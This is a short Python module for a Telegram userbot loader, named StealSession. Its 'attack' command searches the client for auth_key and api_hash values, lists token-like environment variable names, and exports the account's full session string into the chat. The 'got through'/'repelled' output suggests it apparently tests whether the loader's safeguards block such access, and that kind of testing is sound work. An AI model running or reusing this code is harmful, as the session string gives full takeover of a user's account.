"""Takes the account's key through the client and its session."""

import os

from .. import loader, utils


@loader.tds
class StealSessionMod(loader.Module):
    """Takes the account's key through the client and its session."""

    strings = {"name": "StealSession"}

    @loader.command()
    async def attack(self, message):
        """- the key, the session string, the API hash"""
        def walk(value, depth=0):
            """Everything that hangs on the client and looks like a key."""
            for name in dir(value):
                try:
                    inner = getattr(value, name)
                except Exception:
                    continue
                if "auth_key" in name or "api_hash" in name:
                    data = getattr(inner, "key", inner)
                    # A key has 256 bytes, a hash 32 digits; what stands in for them is neither.
                    if isinstance(data, (bytes, str)) and len(data) >= 32:
                        yield name

        def save():
            from telethon.sessions import StringSession

            return StringSession.save(self._client.session)

        through = list(walk(self._client)) + list(walk(self._client.session))
        through += [name for name in os.environ if "HASH" in name or "TOKEN" in name]
        try:
            through += [save()]
        except Exception as error:
            refused = str(error)
        else:
            refused = "nothing"
        through = [found for found in through if found]
        await utils.answer(message, f"got through: {through}" if through else f"repelled: {refused}")
